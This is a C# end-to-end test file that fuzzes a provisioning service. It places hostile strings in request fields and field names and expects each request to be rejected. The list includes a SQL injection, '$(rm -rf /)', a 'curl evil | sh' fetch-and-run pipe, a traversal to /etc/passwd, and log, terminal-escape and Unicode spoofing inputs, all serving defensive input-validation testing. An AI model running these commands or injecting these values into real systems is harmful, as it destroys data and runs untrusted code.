using System.Globalization;
using System.Text.Json.Nodes;

namespace Berth.Tests.EndToEnd.Provision;

/// <summary>Messages that mean harm: a text that has broken programs before, in a field and as the name of one. A few in each run, more with <c>./berth test --fuzz</c>.</summary>
internal static class HostileBodies
{
    private const int Few = 6;
    private const int Many = 48;

    private static readonly string[] Texts =
    [
        "'; DROP TABLE users; --", "$(rm -rf /)", "; curl evil | sh", "$$.Execution.Id", "*", "arn:aws:iam::*:role/*", "${iam:role/x#arn}", "${AWS::AccountId}", "{{resolve:ssm:x}}",
        "secret://berth/other/database#password", "../../etc/passwd", "a\r\n{\"level\":\"ERROR\"}", "\u001b[2J\u001b]0;title\u0007", "a\u0000b", "\ufeffprd", "\u202eprd", "\u0440rd", "\u2028", "%s%n", "\\",
    ];

    private static readonly string[] Fields = ["schema", "requestId", "environment", "platform", "profile", "mode", "risken/namespace", "risken/consoleHost", "risken/imageTag", "risken/accessToken/host"];

    public static IReadOnlyList<RefusalCase> All()
    {
        var random = new Random(int.TryParse(Environment.GetEnvironmentVariable("BERTH_FUZZ_SEED"), CultureInfo.InvariantCulture, out var seed) ? seed : 20260801);
        var count = Environment.GetEnvironmentVariable("BERTH_FUZZ_COUNT") is { Length: > 0 } ? Many : Few;
        return [.. Enumerable.Range(0, count).Select(number => Make(number, Texts[random.Next(Texts.Length)], Fields[random.Next(Fields.Length)]))];
    }

    private static RefusalCase Make(int number, string text, string field)
    {
        var body = RequestFor.Environment("hostile");
        var path = field.Split('/');
        var parent = path.SkipLast(1).Aggregate((JsonNode)body, (at, name) => at[name]!);
        parent[path[^1]] = text;
        body[text] = text;
        return new($"hostile {number}: {field}", body.ToJsonString(), "RequestInvalid", "/");
    }
}
